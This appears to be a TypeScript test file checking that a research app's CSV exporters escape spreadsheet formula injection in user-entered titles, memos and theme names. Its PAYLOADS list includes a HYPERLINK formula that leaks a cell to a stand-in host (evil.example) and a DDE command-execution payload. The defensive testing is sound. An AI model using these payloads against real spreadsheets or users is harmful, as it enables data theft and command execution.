// Formula injection: every CSV the app writes must hand a spreadsheet text, never a formula, whatever a user typed
// into a title, a quote, a memo or a theme name. One shared function does it; each exporter is checked here.
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { matrixCsv } from "@/lib/coding/matrix-order";
import { codebookToCsv, parseCodebookCsv } from "@/lib/themes/codebook-exchange";
import { codingsCsv } from "./codings-csv";
import { csvDocument, neutraliseCsvCell } from "./csv";
import { itemsCsv, type ExportItem } from "./items";

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
];

/** The cells of a CSV document as a spreadsheet would read them (BOM dropped). */
function cells(csv: string): string[] {
  return (parse(csv.replace(/^\uFEFF/, ""), { relax_column_count: true }) as string[][]).flat();
}

function expectNoFormula(csv: string) {
  for (const cell of cells(csv)) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
}

describe("neutraliseCsvCell", () => {
  it.each(PAYLOADS)("prefixes %j with an apostrophe", (payload) => {
    expect(neutraliseCsvCell(payload)).toBe(`'${payload}`);
  });

  it("leaves ordinary text, numbers and text with a formula character later on alone", () => {
    expect(neutraliseCsvCell("城市治理 = 社区 + 政府")).toBe("城市治理 = 社区 + 政府");
    expect(neutraliseCsvCell(-3)).toBe(-3);
    expect(neutraliseCsvCell("")).toBe("");
    expect(neutraliseCsvCell("'already")).toBe("'already");
  });

  it("csvDocument writes a BOM and neutralises every cell", () => {
    const csv = csvDocument([["a", ...PAYLOADS]]);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    expect(cells(csv)).toEqual(["a", ...PAYLOADS.map((payload) => `'${payload}`)]);
  });
});

describe("every CSV export neutralises formulas", () => {
  it("library export (items CSV)", () => {
    const item = {
      id: "i",
      titleZh: PAYLOADS[0],
      titleEn: PAYLOADS[1],
      journalZh: PAYLOADS[2],
      journalEn: null,
      year: 2020,
      volume: PAYLOADS[3],
      issue: PAYLOADS[4],
      pages: PAYLOADS[5],
      doi: "=doi",
      keywordsZh: ["@kw"],
      keywordsEn: [],
      abstractZh: "-abstract",
      abstractEn: null,
      identifiers: [],
      screeningState: "UNSCREENED",
      authors: [{ nameZh: "=author", nameEn: null, role: "AUTHOR" }],
      stage: { nameZh: "+stage", nameEn: null },
      exclusionReason: null,
      themes: [{ theme: { nameZh: "=theme", nameEn: null } }],
      assignments: [{ user: { name: "@user" } }],
      screeningDecision: null,
    } as unknown as ExportItem;
    const csv = itemsCsv([item], "zh", {
      columns: new Proxy({} as Parameters<typeof itemsCsv>[2]["columns"], { get: (_t, key) => `=${String(key)}` }),
      screening: (state) => `=${state}`,
      decision: (choice) => `=${choice}`,
    });
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expectNoFormula(csv);
  });

  it("codings CSV", () => {
    const csv = codingsCsv(
      [
        {
          quote: "=1+1",
          memo: "@memo",
          field: "ABSTRACT",
          orphaned: false,
          createdAt: new Date("2026-01-01T00:00:00Z"),
          createdBy: { name: "-coder" },
          themes: [{ theme: { nameZh: "+theme", nameEn: null } }],
          item: { titleZh: "\ttitle", titleEn: null, year: 2020, authors: [{ nameZh: "=a", nameEn: null }] },
        },
      ] as unknown as Parameters<typeof codingsCsv>[0],
      "zh",
      {
        columns: new Proxy({} as Parameters<typeof codingsCsv>[2]["columns"], { get: () => "=header" }),
        field: () => "-field",
        yes: "=yes",
      } as unknown as Parameters<typeof codingsCsv>[2],
    );
    expectNoFormula(csv);
    expect(cells(csv)).toContain("'=1+1");
  });

  it("theme × paper matrix CSV", () => {
    const csv = matrixCsv(
      {
        themes: [{ id: "t", name: "=theme" }],
        items: [{ id: "i", title: "@paper", year: 2020 }],
        cell: () => ({ count: 2, tagged: true }),
      },
      { papers: "year", themes: "codebook" },
      {
        theme: (theme) => theme.name,
        item: (item) => item.title,
        paperHeader: "-paper",
        citationHeader: "+citation",
        citation: () => "=cite",
      },
    );
    expectNoFormula(csv);
    expect(cells(csv)).toEqual(["'-paper", "'+citation", "'=theme", "'@paper", "'=cite", "2*"]);
  });

  it("codebook CSV, and it reads its own neutralised cells back as written", () => {
    const themes = [
      {
        key: "k",
        nameZh: "=主题",
        nameEn: "+Theme",
        color: "#0f766e",
        definitionZh: "-定义",
        definitionEn: "@def",
        inclusionNotes: "\tnotes",
        parentKey: null,
      },
    ];
    const csv = codebookToCsv(themes);
    expectNoFormula(csv);
    const parsed = parseCodebookCsv(csv);
    expect(parsed.problems).toEqual([]);
    expect(parsed.themes[0]).toMatchObject({
      nameZh: "=主题",
      nameEn: "+Theme",
      definitionZh: "-定义",
      definitionEn: "@def",
    });
  });
});
